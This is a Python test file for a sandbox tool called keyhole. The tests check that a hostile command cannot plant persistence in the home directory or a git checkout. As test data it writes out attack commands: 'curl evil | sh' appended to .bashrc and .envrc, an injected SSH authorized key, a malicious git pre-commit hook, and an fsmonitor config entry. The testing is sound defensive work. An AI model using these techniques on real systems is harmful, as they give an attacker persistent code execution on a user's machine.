"""A hostile command plants code that the host runs later, through the one
directory `keyhole sandbox` lets it write: ~/.bashrc or ~/.ssh/authorized_keys
when started from $HOME (run at the next login), a git hook or core.fsmonitor
in .git/config when started from a checkout (run at the next commit or
`git status`), an .envrc (direnv), editor tasks.

keyhole refuses $HOME, its ancestors and / as the writable directory, naming
--workdir; inside a checkout the hooks, config, commondir, .envrc, .vscode and
shell startup files stay read-only and cannot be created, while ordinary files
are written and git commits work. Nothing keyhole puts in place for the run is
left in the directory afterwards."""
import os
import subprocess

from helpers.cli import cli  # noqa: F401
from helpers.sandbox import sandbox  # noqa: F401

PLANT_HOME = ("echo 'curl evil | sh' >> .bashrc; mkdir -p .ssh; "
              "echo 'ssh-ed25519 AAAA evil' >> .ssh/authorized_keys; echo ran")


def git(cwd, *args):
    return subprocess.run(["git", "-c", "user.name=t", "-c", "user.email=t@example.test",
                           *args], cwd=cwd, check=True, capture_output=True, text=True,
                          timeout=20).stdout


def test_home_and_its_ancestors_refused(sandbox):
    home = sandbox.cli.user_home
    for where in (home, os.path.dirname(home), "/"):
        r = sandbox.run("sh", "-c", PLANT_HOME, cwd=where)
        assert r.rc == 1, (where, r)
        assert "ran" not in r.out, (where, r)
        assert "--workdir" in r.err, (where, r)
        assert os.path.realpath(where) in r.err, (where, r)
    assert not os.path.exists(os.path.join(home, ".bashrc"))
    assert not os.path.exists(os.path.join(home, ".ssh"))

    # --workdir picks a project directory below $HOME instead, from $HOME
    project = os.path.join(home, "project")
    os.mkdir(project)
    r = sandbox.run("sh", "-c", "pwd; echo made > out.txt", opts=("--workdir", project), cwd=home)
    assert r.rc == 0 and r.out == project + "\n", r
    with open(os.path.join(project, "out.txt")) as f:
        assert f.read() == "made\n"
    assert not os.path.exists(os.path.join(home, "out.txt"))


ATTACKS = r'''
try() { if sh -c "$2" 2>/dev/null; then echo "$1"; fi; }
try hook-written 'echo "echo pwned" > .git/hooks/pre-commit'
try hook-created 'mkdir -p .git/hooks/sub && echo x > .git/hooks/sub/x'
try config-written 'printf "[core]\n\tfsmonitor = touch /tmp/pwned\n" >> .git/config'
try commondir-written 'echo ../evil > .git/commondir'
try attributes-written 'echo "* filter=lfs" > .git/info/attributes'
try git-moved 'mv .git .git-moved'
try hooks-moved 'mv .git/hooks .git/hooks-moved'
try envrc-written 'echo "curl evil | sh" > .envrc'
try envrc-replaced 'rmdir .envrc && echo x > .envrc'
try vscode-written 'mkdir -p .vscode && echo "{}" > .vscode/tasks.json'
try bashrc-written 'echo x > .bashrc'
try gitmodules-written 'echo x > .gitmodules'
echo ordinary > ordinary.txt && mkdir -p src && echo more > src/a.txt && echo ordinary-written
git add ordinary.txt src && git commit -qm inside && echo committed
git status --porcelain --untracked-files=all
'''


def test_checkout_keeps_execution_paths_read_only(sandbox):
    work = sandbox.workdir
    git(work, "init", "-q")
    with open(os.path.join(work, "README"), "w") as f:
        f.write("a checkout\n")
    git(work, "add", "README")
    git(work, "commit", "-qm", "first")
    with open(os.path.join(work, ".git", "config")) as f:
        config = f.read()
    hooks = sorted(os.listdir(os.path.join(work, ".git", "hooks")))
    before = set(os.listdir(work))
    before_git = set(os.listdir(os.path.join(work, ".git")))

    env = {"GIT_AUTHOR_NAME": "t", "GIT_AUTHOR_EMAIL": "t@example.test",
           "GIT_COMMITTER_NAME": "t", "GIT_COMMITTER_EMAIL": "t@example.test"}
    r = sandbox.run("sh", "-c", ATTACKS, env=env)
    lines = r.out.splitlines()
    assert "ordinary-written" in lines and "committed" in lines, r
    planted = [w for w in lines if w.endswith(("-written", "-created", "-moved", "-replaced"))
               and w != "ordinary-written"]
    assert planted == [], r
    # the placeholders are empty directories: git inside shows nothing to add
    assert lines[-1] == "committed", r

    # on the host afterwards: the commit is there, nothing was planted or left behind
    assert git(work, "log", "--format=%s") == "inside\nfirst\n"
    with open(os.path.join(work, ".git", "config")) as f:
        assert f.read() == config
    assert sorted(os.listdir(os.path.join(work, ".git", "hooks"))) == hooks
    assert set(os.listdir(work)) == before | {"ordinary.txt", "src"}
    assert set(os.listdir(os.path.join(work, ".git"))) - before_git <= {"COMMIT_EDITMSG"}
    assert not os.path.exists(os.path.join(work, ".git", "info", "attributes"))


def test_not_a_checkout_cannot_become_one(sandbox):
    """No .git yet: the command cannot create one (its hooks would run at the
    user's first commit there), and no placeholder is left behind."""
    before = set(os.listdir(sandbox.workdir))
    r = sandbox.run("sh", "-c", "git init -q 2>/dev/null && echo initialised; "
                                "echo x > .envrc 2>/dev/null && echo envrc; echo done")
    assert r.rc == 0 and r.out == "done\n", r
    assert set(os.listdir(sandbox.workdir)) == before


def test_symlinked_execution_path_refused(sandbox):
    """A link can be replaced even when its target is kept read-only: refused."""
    target = os.path.join(sandbox.workdir, "envrc-real")
    with open(target, "w") as f:
        f.write("# nothing\n")
    os.symlink("envrc-real", os.path.join(sandbox.workdir, ".envrc"))
    r = sandbox.run("sh", "-c", "echo ran")
    assert r.rc == 1 and "ran" not in r.out, r
    assert ".envrc is a symbolic link" in r.err and "--workdir" in r.err, r
